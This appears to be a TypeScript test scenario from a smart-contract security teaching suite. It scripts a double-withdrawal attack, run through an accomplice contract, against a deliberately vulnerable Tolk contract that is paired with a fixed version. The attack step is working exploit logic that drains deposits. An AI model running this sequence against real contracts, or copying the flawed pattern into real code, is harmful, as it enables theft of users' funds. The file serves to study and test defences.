import {address, cell, coins, gram, noEntries, uint} from '../fields.ts';
import type {Scenario} from '../scenario.ts';

/** Two withdrawals in one transaction: the second meets a bank whose deposits are on their way to itself. */
export const scenario: Scenario = {
  files: {bad: 'samples/security/roundtrip-bad.tolk', good: 'samples/security/roundtrip-good.tolk'},
  also: {twice: 'samples/security/two-at-once.tolk'},
  shown: ['attacker', 'contract'],
  prepare: async (stage) => {
    await stage.deploy('contract', cell(coins(0), noEntries), gram('0.1'));
    await stage.send({from: 'owner', to: 'contract', value: gram('10'), body: cell(uint(32, 0xe701))});
    const data = cell(address(stage.addressOf('attacker')), address(stage.addressOf('contract')));
    await stage.deploy('accomplice', data, gram('0.2'), stage.codeOf('twice'));
  },
  attack: async (stage) => {
    await stage.send({from: 'attacker', to: 'accomplice', value: gram('1'), body: cell(uint(32, 0xe703))});
    await stage.send({from: 'attacker', to: 'accomplice', value: gram('0.05'), body: cell(uint(32, 0xe704))});
    // Now the deposits belong to nobody: a small withdrawal takes them along.
    await stage.send({from: 'attacker', to: 'contract', value: gram('0.2'), body: cell(uint(32, 0xe701))});
    await stage.send({from: 'attacker', to: 'contract', value: gram('0.05'), body: cell(uint(32, 0xe702), coins(gram('0.1')))});
  },
  succeeded: ({before, after}) => after.balances.attacker! > before.balances.attacker!,
};
